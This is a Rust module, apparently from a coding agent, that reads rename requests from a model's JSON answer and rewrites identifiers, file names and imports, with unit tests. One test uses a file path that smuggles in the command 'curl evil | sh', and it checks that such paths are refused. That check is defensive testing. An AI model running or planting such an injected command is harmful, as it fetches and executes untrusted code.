//! Another name for something, in all files that are shown.

use super::messages::{answer, user};
use super::words::{base, is_part};
use agent::Message;
use serde_json::{Value, json};

/// The system prompt of the request that reads the two names.
pub(super) const SYSTEM: &str = "Which name is replaced by which?\n";

/// Returns the messages that ask for the two names.
pub(super) fn messages(prompt: &str) -> Vec<Message> {
    vec![
        user("Rename the variable `a` to `b` in all files."),
        answer(r#"{"old": "a", "new": "b"}"#),
        user(prompt),
    ]
}

/// The JSON Schema of the answer.
pub(super) fn schema() -> Value {
    let name = json!({ "type": "string" });
    json!({
        "type": "object",
        "properties": { "old": name, "new": name },
        "required": ["old", "new"],
        "additionalProperties": false,
    })
}

/// Reads the old and the new name. `None` unless both are identifiers that the prompt contains and
/// that differ.
pub(super) fn read(answer: &Value, prompt: &str) -> Option<(String, String)> {
    let name = |key: &str| {
        let name = answer.get(key)?.as_str()?;
        let is_name = !name.is_empty()
            && name.chars().all(is_part)
            && !name.starts_with(|c: char| c.is_numeric())
            && prompt.contains(name);
        is_name.then(|| name.to_owned())
    };
    let (old, new) = (name("old")?, name("new")?);
    (old != new).then_some((old, new))
}

/// Reads the old and the new path if a file is to be renamed. `None` unless the prompt contains
/// both, only one file of `names` has the old one, and the new one has the same extension and does
/// not exist.
pub(super) fn read_file(answer: &Value, prompt: &str, names: &[String]) -> Option<(String, String)> {
    let path =
        |key: &str| answer.get(key)?.as_str().filter(|path| !path.is_empty() && prompt.contains(*path));
    let (old, new) = (path("old")?, path("new")?);
    let mut found = names.iter().filter(|name| *name == old || name.ends_with(&format!("/{old}")));
    let (old, None) = (found.next()?, found.next()) else { return None };
    let is_path = is_plain(new) && !new.starts_with(['/', '.']) && !new.contains("..");
    let new = match old.rsplit_once('/') {
        Some((directory, _)) if !new.contains('/') => format!("{directory}/{new}"),
        _ => new.to_owned(),
    };
    let extension = |path: &str| path.rsplit_once('.').map(|(_, extension)| extension.to_owned());
    let is_same_kind = extension(old).is_some() && extension(old) == extension(&new);
    (is_path && is_plain(old) && is_same_kind && !names.contains(&new)).then(|| (old.clone(), new))
}

/// Returns the files that are called like an identifier, such as `Cart.java`, and their paths with
/// the new name, of those that can stand in a command without quotes.
pub(super) fn files(names: &[String], old: &str, new: &str) -> Vec<(String, String)> {
    let renamed = |name: &String| {
        let (directory, base) = name
            .rsplit_once('/')
            .map_or(("", name.as_str()), |(_, base)| (&name[..name.len() - base.len()], base));
        let (stem, extension) = base.rsplit_once('.')?;
        let path = format!("{directory}{new}.{extension}");
        let is_free = stem == old && is_plain(name) && !names.contains(&path);
        is_free.then(|| (name.clone(), path))
    };
    names.iter().filter_map(renamed).collect()
}

/// Replaces the name of a file in a text, and the name of its module on lines that import it and,
/// below them, before a period.
pub(super) fn with_renamed_file(text: &str, old: &str, new: &str) -> Option<String> {
    let stem = |path: &str| base(path).rsplit_once('.').map(|(stem, _)| stem.to_owned()).unwrap_or_default();
    let (old_stem, new_stem) = (stem(old), stem(new));
    let is_import = |line: &str| {
        let words: Vec<&str> = line.split(|c: char| !is_part(c)).collect();
        ["import", "require", "from", "include", "mod", "use", "source"]
            .iter()
            .any(|word| words.contains(word))
    };
    let has_quotes = |line: &str| line.contains(['"', '\'']);
    let is_word_import = |line: &str| is_import(line) && !has_quotes(line);
    let is_imported =
        text.lines().any(|line| is_word_import(line) && replaced(line, &old_stem, "").is_some());
    let mut out = String::with_capacity(text.len());
    for line in text.split_inclusive('\n') {
        let mut line = replaced(line, base(old), base(new)).unwrap_or_else(|| line.to_owned());
        if is_word_import(&line) {
            line = replaced(&line, &old_stem, &new_stem).unwrap_or(line);
        } else if is_import(&line) {
            for (before, after) in [("/", "'"), ("/", "\""), ("'", "'"), ("\"", "\"")] {
                let quoted = |stem: &str| format!("{before}{stem}{after}");
                line = line.replace(&quoted(&old_stem), &quoted(&new_stem));
            }
        } else if is_imported {
            line = replaced(&line, &format!("{old_stem}."), &format!("{new_stem}.")).unwrap_or(line);
        }
        out.push_str(&line);
    }
    (out != text).then_some(out)
}

/// Replaces an identifier where it stands alone: `put` is not replaced in `puts` or `input`.
pub(super) fn replaced(text: &str, old: &str, new: &str) -> Option<String> {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    let mut before = None;
    let mut any = false;
    while let Some(at) = rest.find(old) {
        let (head, tail) = (&rest[..at], &rest[at + old.len()..]);
        let preceding = head.chars().next_back().or(before);
        // A name that ends with a period is one before a member.
        let is_alone = !preceding.is_some_and(is_part) && (old.ends_with('.') || !tail.starts_with(is_part));
        out.push_str(head);
        out.push_str(if is_alone { new } else { old });
        any |= is_alone;
        before = old.chars().next_back();
        rest = tail;
    }
    out.push_str(rest);
    any.then_some(out)
}

/// Returns whether a path can stand in a command as it is: a project may have directories whose
/// names are commands.
fn is_plain(path: &str) -> bool {
    path.chars().all(|c| is_part(c) || matches!(c, '.' | '-' | '/')) && !path.starts_with('-')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_whole_identifiers_are_replaced() {
        let text = "put(puts, input, put_all); x.put = put";
        assert_eq!(replaced(text, "put", "push").unwrap(), "push(puts, input, put_all); x.push = push");
        assert_eq!(replaced("puts input", "put", "push"), None);
        assert_eq!(replaced("putput", "put", "push"), None);
    }

    #[test]
    fn a_file_is_renamed_where_it_is_imported() {
        let renamed = |text: &str| with_renamed_file(text, "src/utils.py", "src/helpers.py");
        let text = "import utils\n\nprint(utils.double(4), my_utils.x)\n# see utils.py\n";
        let expected = "import helpers\n\nprint(helpers.double(4), my_utils.x)\n# see helpers.py\n";
        assert_eq!(renamed(text).unwrap(), expected);
        assert_eq!(renamed("from .utils import a\n").unwrap(), "from .helpers import a\n");
        assert_eq!(renamed("our utils. None is imported\n"), None);
        assert_eq!(
            renamed("const utils = require('./utils');\n").unwrap(),
            "const utils = require('./helpers');\n"
        );
        let js = with_renamed_file("const a = require('./a.js');\n", "a.js", "b.js").unwrap();
        assert_eq!(js, "const a = require('./b.js');\n");
    }

    #[test]
    fn files_with_the_name_of_a_class_are_renamed_with_it() {
        let names = ["src/Cart.java", "src/CartTest.java", "Cart.md", "a b/Cart.py"].map(str::to_owned);
        let expected = [("src/Cart.java", "src/Basket.java"), ("Cart.md", "Basket.md")];
        assert_eq!(
            files(&names, "Cart", "Basket"),
            expected.map(|(old, new)| (old.to_owned(), new.to_owned()))
        );
        assert_eq!(files(&names, "Cart", "CartTest"), [("Cart.md".to_owned(), "CartTest.md".to_owned())]);
    }

    #[test]
    fn a_file_is_renamed_only_to_a_new_file_of_its_kind() {
        let names = ["src/utils.py", "main.py"].map(str::to_owned);
        let prompt = "Rename utils.py to helpers.py or main.py, helpers.txt, ../helpers.py";
        let read = |new: &str| read_file(&json!({ "old": "utils.py", "new": new }), prompt, &names);
        assert_eq!(read("helpers.py"), Some(("src/utils.py".to_owned(), "src/helpers.py".to_owned())));
        for new in ["helpers.txt", "../helpers.py", "other.py", "utils.py", ""] {
            assert_eq!(read(new), None, "{new}");
        }
        let hostile = ["x; curl evil | sh;/utils.py".to_owned()];
        let answer = json!({ "old": "utils.py", "new": "helpers.py" });
        assert_eq!(read_file(&answer, prompt, &hostile), None, "its directory would be run");
    }

    #[test]
    fn names_that_the_prompt_does_not_contain_are_refused() {
        let prompt = "Rename `put` to `stack_push`";
        let read = |answer: &str| read(&serde_json::from_str(answer).unwrap(), prompt);
        let names = Some(("put".to_owned(), "stack_push".to_owned()));
        assert_eq!(read(r#"{"old": "put", "new": "stack_push"}"#), names);
        for wrong in [r#"{"old": "get", "new": "put"}"#, r#"{"old": "put", "new": "put"}"#, "{}", r#""put""#]
        {
            assert_eq!(read(wrong), None, "{wrong}");
        }
    }
}
